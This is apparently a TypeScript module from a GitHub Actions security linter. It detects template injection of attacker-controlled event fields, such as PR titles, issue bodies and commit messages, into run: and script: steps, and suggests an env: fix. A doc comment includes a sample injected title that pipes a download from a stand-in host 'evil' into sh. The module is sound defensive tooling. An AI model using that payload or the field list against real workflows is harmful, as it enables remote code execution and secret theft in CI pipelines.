import type { Reason } from '../../types.js';
import { chainText, chainsInText, DYNAMIC } from './expressions.js';

/**
 * `wf:template-injection`: an expression is pasted into the script text before the shell (or
 * github-script's JavaScript) runs, so a PR title like `a"; curl evil | sh; "` becomes code. The
 * spec makes every `${{ github.event.* }}` and `github.head_ref` red inside `run:` and `script:`;
 * the fields below are the ones an outsider writes, named in the message because they are the
 * well-known exploits.
 */
const ATTACKER_FIELDS: readonly string[][] = [
  ['issue', 'title'],
  ['issue', 'body'],
  ['pull_request', 'title'],
  ['pull_request', 'body'],
  ['pull_request', 'head', 'ref'],
  ['pull_request', 'head', 'label'],
  ['pull_request', 'head', 'repo'],
  ['comment', 'body'],
  ['review', 'body'],
  ['review_comment', 'body'],
  ['pages', '*', 'page_name'],
  ['commits', '*', 'message'],
  ['commits', '*', 'author'],
  ['head_commit', 'message'],
  ['head_commit', 'author'],
  ['workflow_run', 'head_branch'],
  ['workflow_run', 'head_commit'],
  ['workflow_run', 'display_title'],
  ['workflow_run', 'pull_requests'],
  ['workflow_run', 'head_repository'],
  ['discussion', 'title'],
  ['discussion', 'body'],
  ['merge_group', 'head_commit'],
  ['client_payload'],
];

export type InjectionKind = 'attacker' | 'event' | 'input';

function matchesPrefix(fields: readonly string[], pattern: readonly string[]): boolean {
  if (fields.length < pattern.length) {
    // `toJSON(github.event.issue)` contains the title: a chain that stops above an attacker field covers it.
    return fields.every((f, i) => f === pattern[i] || pattern[i] === '*' || f === '*');
  }
  return pattern.every((p, i) => p === '*' || fields[i] === '*' || fields[i] === DYNAMIC || fields[i] === p);
}

/** How dangerous one context chain is when pasted into code; null when it is not flagged. */
export function injectionKind(chain: readonly string[]): InjectionKind | null {
  const [head, second] = chain;
  if (head === 'inputs') return 'input';
  if (head !== 'github') return null;
  if (second === undefined || second === DYNAMIC) return 'attacker'; // the whole context holds the event
  if (second === 'head_ref') return 'attacker';
  if (second !== 'event') return null;
  const fields = chain.slice(2);
  if (fields.length === 0 || fields[0] === DYNAMIC) return 'attacker';
  if (ATTACKER_FIELDS.some((p) => matchesPrefix(fields, p))) return 'attacker';
  return 'event';
}

export interface InjectionHit {
  kind: InjectionKind;
  chain: string[];
  expression: string;
  offset: number;
}

export function findInjections(code: string): InjectionHit[] {
  const hits: InjectionHit[] = [];
  for (const { chain, offset, expression } of chainsInText(code)) {
    const kind = injectionKind(chain);
    if (kind) hits.push({ kind, chain, expression, offset });
  }
  return hits;
}

/**
 * Reasons for the expressions in a `run:` script or a github-script `script:`. `lineOf` maps an
 * offset in `code` to a line of the workflow file.
 */
export function templateInjectionReasons(code: string, where: 'run:' | 'script:', lineOf: (offset: number) => number | undefined): Reason[] {
  const reasons: Reason[] = [];
  const seen = new Set<string>();
  for (const hit of findInjections(code)) {
    const line = lineOf(hit.offset);
    const key = `${hit.kind}|${chainText(hit.chain)}|${line}`;
    if (seen.has(key)) continue;
    seen.add(key);
    const name = chainText(hit.chain);
    const fix = `pass it through \`env:\` (e.g. \`env: VALUE: \${{ ${name} }}\`) and use "$VALUE" in the ${where === 'run:' ? 'script' : 'code'}`;
    let reason: Reason;
    if (hit.kind === 'attacker') {
      reason = {
        rule: 'wf:template-injection',
        zone: 'red',
        message: `\`${hit.expression}\` in ${where} pastes attacker-controlled text (${name}) into the code before it runs: anyone who can open an issue, PR or comment can inject commands; ${fix}`,
      };
    } else if (hit.kind === 'event') {
      reason = {
        rule: 'wf:template-injection',
        zone: 'red',
        message: `\`${hit.expression}\` in ${where} pastes event payload data (${name}) into the code before it runs; event fields are treated as untrusted input, ${fix}`,
      };
    } else {
      reason = {
        rule: 'wf:template-injection',
        zone: 'yellow',
        message: `\`${hit.expression}\` in ${where} pastes an input (${name}) into the code before it runs; inputs come from whoever dispatches or calls the workflow (not outsiders), but a value with quotes becomes code: ${fix}`,
      };
    }
    if (line !== undefined) reason.line = line;
    reasons.push(reason);
  }
  return reasons;
}
